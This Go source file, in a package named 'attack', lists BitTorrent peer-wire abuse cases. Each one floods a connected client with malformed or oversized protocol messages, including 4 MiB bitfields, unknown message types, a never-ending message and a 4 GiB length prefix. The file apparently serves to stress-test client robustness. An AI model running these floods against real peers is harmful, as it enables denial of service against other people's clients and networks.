package attack

import (
	"bytes"
	"encoding/binary"
)

// messages are kinds in messages of BEP 3 and 6.
var messages = []Kind{
	{Name: "blocks that nobody asked for", run: func(c *conn) error {
		m := frame(7, append(words(0, 0, 0)[5:], make([]byte, 16<<10)...)...)
		return c.flood(func(i int) []byte {
			binary.BigEndian.PutUint32(m[5:], uint32(i%c.Pieces))
			return m
		})
	}},
	{Name: "large bitfields", run: func(c *conn) error {
		m := frame(5, bytes.Repeat([]byte{0xff}, 4<<20-2)...)
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "bitfields", run: func(c *conn) error {
		m := frame(5, make([]byte, (c.Pieces+7)/8)...)
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "keep-alives", run: func(c *conn) error {
		return c.flood(func(int) []byte { return make([]byte, 4) })
	}},
	{Name: "haves", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return words(4, i%c.Pieces) })
	}},
	{Name: "allowed fast", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return words(17, i) })
	}},
	{Name: "suggestions", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return words(13, i) })
	}},
	{Name: "rejects", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return words(16, i%c.Pieces, 0, 16<<10) })
	}},
	{Name: "cancels", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return words(8, i%c.Pieces, 0, 16<<10) })
	}},
	{Name: "chokes and unchokes", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return frame(byte(i % 2)) })
	}},
	{Name: "interest and none", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return frame(byte(2 + i%2)) })
	}},
	{Name: "have all and none", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return frame(byte(14 + i%2)) })
	}},
	{Name: "ports", run: func(c *conn) error {
		return c.flood(func(int) []byte { return frame(9, 1, 2) })
	}},
	{Name: "hashes that nobody asked for", run: func(c *conn) error {
		m := frame(22, make([]byte, 48+512*32)...)
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "messages of an unknown type", run: func(c *conn) error {
		m := frame(99, make([]byte, 100)...)
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "large messages of an unknown type", run: func(c *conn) error {
		m := frame(99, make([]byte, 3<<20)...)
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "a message that never ends", run: func(c *conn) error {
		return c.put(append(frame(20, 0), 0, 0, 0xff, 0xff, 20, 0))
	}},
	{Name: "a message of 4 GiB", run: func(c *conn) error {
		if err := c.put([]byte{0xff, 0xff, 0xff, 0xff, 20}); err != nil {
			return err
		}
		return c.flood(func(int) []byte { return make([]byte, 32<<10) })
	}},
}
